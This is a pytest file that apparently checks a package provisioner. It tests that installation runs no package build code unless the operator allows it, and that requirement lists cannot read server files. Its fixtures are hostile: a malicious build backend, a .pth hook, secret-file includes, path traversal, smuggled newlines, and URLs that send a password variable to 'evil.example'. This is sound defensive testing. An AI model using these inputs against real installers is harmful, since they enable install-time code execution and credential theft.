"""No code of packages runs while they are installed, unless the operator allows it: attacks."""

import io
import tarfile
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from provisioners.base import UnrecoverableProvisioningError
from tests.support.provisioners.bundles_in_memory import (
    PRINTS_TINY,
    Bundles,
    another,
    output_of,
)
from tests.support.provisioners.process_backend import ProcessBackend, exists
from tests.support.wheels import TINY, WHEEL

NAME = "cp-evil-package"
SDIST = "vendor/cp_evil_package-1.0.tar.gz"


@pytest.fixture
def mark(tmp_path: Path) -> Path:
    """What appears when code of a package runs."""
    return tmp_path / "has-run"


def package(mark: Path, folder: str) -> dict[str, bytes]:
    """Gives the source of a package whose build leaves a mark."""
    settings = f"""
[build-system]
requires = []
build-backend = "evil"
backend-path = ["."]
[project]
name = "{NAME}"
version = "1.0"
"""
    return {
        f"{folder}/pyproject.toml": settings.encode(),
        f"{folder}/evil.py": f"open({str(mark)!r}, 'w')".encode(),
    }


def source_distribution(mark: Path) -> bytes:
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        for name, data in package(mark, "cp_evil_package-1.0").items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return content.getvalue()


def wheel_that_needs(requirement: str) -> bytes:
    content = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(TINY)) as source,
        zipfile.ZipFile(content, "w") as target,
    ):
        for name in source.namelist():
            data = source.read(name)
            if name.endswith("METADATA"):
                data += f"Requires-Dist: {requirement}\n".encode()
            target.writestr(zipfile.ZipInfo(name), data)
    return content.getvalue()


LOCK = f"""
version = 1
revision = 3
requires-python = ">=3.11"

[[package]]
name = "shop"
version = "1"
source = {{ virtual = "." }}
dependencies = [{{ name = "{NAME}" }}]

[[package]]
name = "{NAME}"
version = "1.0"
source = {{ editable = "source" }}
"""
SHOP = f"""
[project]
name = "shop"
version = "1"
requires-python = ">=3.11"
dependencies = ["{NAME}"]
[tool.uv.sources]
{NAME} = {{ path = "source", editable = true }}
"""
EVIL = "https://evil.example"
INDEX = "--no-index\n--find-links ./vendor\n"
SETTINGS = f"""
[tool.uv]
no-build = false
no-binary-package = ["{NAME}"]
[tool.uv.pip]
no-build = false
no-binary = ["{NAME}"]
"""
ATTACKS: dict[str, Mapping[str, str]] = {
    "folder": {"requirements.txt": "./source"},
    "editable": {"requirements.txt": "-e ./source"},
    "editable-glued": {"requirements.txt": "-e./source"},
    "editable-long": {"requirements.txt": "--editable=./source"},
    "archive": {"requirements.txt": f"./{SDIST}"},
    "index": {"requirements.txt": f"{INDEX}{NAME}==1.0"},
    "no-binary": {"requirements.txt": f"--no-binary {NAME}\n{INDEX}{NAME}"},
    "no-binary-all": {"requirements.txt": f"{INDEX}{NAME}\n--no-binary=:all:"},
    "included": {"requirements.txt": "-r more.txt", "more.txt": "-e ./source"},
    "constraints": {"requirements.txt": f"{INDEX}{NAME}\n-c c.txt", "c.txt": "--no-binary :all:"},
    # In a comment, a backslash at the end of the line means something to pip, and nothing to uv.
    "comment": {"requirements.txt": f"./{WHEEL}\n# see \\\n-e ./source\n"},
    "uv-settings": {"requirements.txt": f"{INDEX}{NAME}", "pyproject.toml": SETTINGS},
    "uv.toml": {
        "requirements.txt": f"{INDEX}{NAME}",
        "uv.toml": f'[pip]\nno-binary = ["{NAME}"]\n',
    },
    "git": {"requirements.txt": f"{NAME} @ git+file:///nowhere.git"},
    "lock": {"pyproject.toml": SHOP, "uv.lock": LOCK},
}
HARMLESS = {"comment"}
"""What is installed all the same, without that package."""


@pytest.mark.parametrize("attack", ATTACKS)
async def test_nothing_is_built(
    backend: ProcessBackend, bundles: Bundles, mark: Path, attack: str
) -> None:
    files = {name: text.encode() for name, text in ATTACKS[attack].items()}
    image = bundles.add(
        {
            **PRINTS_TINY,
            **package(mark, "source"),
            SDIST: source_distribution(mark),
            WHEEL: TINY,
            **files,
        }
    )
    if attack in HARMLESS:
        assert await output_of(backend, image) == "42"
    else:
        with pytest.raises(UnrecoverableProvisioningError) as caught:
            await backend.provisioner.prepare(backend.function_for(image))
        (line,) = str(caught.value).splitlines()
        assert "there is no wheel of '" in line
        assert "CONTROL_PLANE_ALLOW_BUILDS=yes" in line
    assert not exists(mark)


async def test_nothing_is_built_for_what_a_wheel_refers_to(
    backend: ProcessBackend, bundles: Bundles, mark: Path, tmp_path: Path
) -> None:
    archive = tmp_path / "cp_evil_package-1.0.tar.gz"
    archive.write_bytes(source_distribution(mark))
    wheel = wheel_that_needs(f"{NAME} @ {archive.as_uri()}")
    files = {"requirements.txt": f"./{WHEEL}".encode(), WHEEL: wheel}
    with pytest.raises(UnrecoverableProvisioningError, match=f"no wheel of '{NAME}'"):
        await backend.provisioner.prepare(
            backend.function_for(bundles.add({**PRINTS_TINY, **files}))
        )
    assert not exists(mark)


async def test_what_a_wheel_wants_to_run_at_each_start_of_python_does_not_run_before_the_worker(
    backend: ProcessBackend, bundles: Bundles, mark: Path
) -> None:
    """A `.pth` file, which would run when an environment's interpreter compiles its packages."""
    content = io.BytesIO(TINY)
    with zipfile.ZipFile(content, "a") as wheel:
        wheel.writestr("tiny.pth", f"import os; open({str(mark)!r}, 'w')\n")
    files = {"requirements.txt": f"./{WHEEL}".encode(), WHEEL: content.getvalue()}
    image = bundles.add({**PRINTS_TINY, **files})
    await backend.provisioner.prepare(backend.function_for(image))
    assert not exists(mark)
    assert await output_of(backend, image) == "42"
    assert exists(mark)


@pytest.mark.parametrize("attack", ["folder", "editable", "no-binary", "lock"])
async def test_it_is_built_where_the_operator_allows_it(
    backend: ProcessBackend, bundles: Bundles, mark: Path, attack: str
) -> None:
    """This one's build fails after it has left its mark."""
    files = {name: text.encode() for name, text in ATTACKS[attack].items()}
    sources = {**package(mark, "source"), SDIST: source_distribution(mark)}
    image = bundles.add({**PRINTS_TINY, **sources, **files})
    provisioner = await another(backend, bundles, allow_builds=True)
    try:
        with pytest.raises(UnrecoverableProvisioningError, match="build backend returned an error"):
            await provisioner.prepare(backend.function_for(image))
    finally:
        await provisioner.close()
    assert exists(mark)


@pytest.mark.parametrize("allow_builds", [False, True])
@pytest.mark.parametrize(
    ("files", "text"),
    [
        ({"requirements.txt": "-r {secret}"}, "is not a file of the project"),
        (
            {"requirements.txt": "-r ./a/../../{secret}"},
            "is not a file of the project",
        ),
        ({"requirements.txt": "-c file://{secret}"}, "is not a file of the project"),
        ({"requirements.txt": "-r nowhere"}, "names 'nowhere', which is not there"),
        (
            {"requirements.txt": f"--index-url {EVIL}/${{UV_INDEX_OURS_PASSWORD}}"},
            "there are no variables to be used",
        ),
        (
            {
                "pyproject.toml": "[project]\n"
                "dependencies = ['x @ https://evil.example/${UV_INDEX_OURS_PASSWORD}/x.whl']"
            },
            "there are no variables to be used",
        ),
        ({"pyproject.toml": "[project]\ndependencies = ['-r {secret}']"}, "names no package"),
        (
            {"pyproject.toml": '[project]\ndependencies = ["x\\n-r {secret}"]'},
            "has characters that do not belong there",
        ),
        ({"requirements.txt": "x\f-e ./source"}, "has characters that do not belong there"),
        ({"requirements.txt": "--config-settings=x"}, "is not supported"),
    ],
)
async def test_a_list_reads_nothing_of_the_server(
    backend: ProcessBackend,
    bundles: Bundles,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    *,
    files: Mapping[str, str],
    text: str,
    allow_builds: bool,
) -> None:
    """An installer's message would tell what stands in a file, and an index gets the address."""
    monkeypatch.setenv("UV_INDEX_OURS_PASSWORD", "hunter2")
    (tmp_path / "secret").write_text("hunter2 hunter2\n")
    contents = {
        name: content.replace("{secret}", f"{tmp_path}/secret").encode()
        for name, content in files.items()
    }
    provisioner = await another(backend, bundles, allow_builds=allow_builds)
    try:
        with pytest.raises(UnrecoverableProvisioningError) as caught:
            await provisioner.prepare(
                backend.function_for(bundles.add({**PRINTS_TINY, **contents}))
            )
    finally:
        await provisioner.close()
    assert text in str(caught.value)
    assert "hunter2" not in str(caught.value)


async def test_lists_that_include_others_are_installed(
    backend: ProcessBackend, bundles: Bundles
) -> None:
    files = {
        "requirements.txt": "-r parts/all.txt",
        "parts/all.txt": "-r ./more/tiny.txt\n-c limits.txt",
        "parts/more/tiny.txt": "--no-index\n-f ../../vendor\ntiny # >=\n",
        "parts/limits.txt": "tiny<2",
    }
    contents = {name: text.encode() for name, text in files.items()}
    image = bundles.add({**PRINTS_TINY, **contents, WHEEL: TINY})
    assert await output_of(backend, image) == "42"
    impossible = {**contents, "parts/limits.txt": b"tiny<1"}
    image = bundles.add({**PRINTS_TINY, **impossible, WHEEL: TINY})
    with pytest.raises(UnrecoverableProvisioningError, match="tiny"):
        await backend.provisioner.prepare(backend.function_for(image))
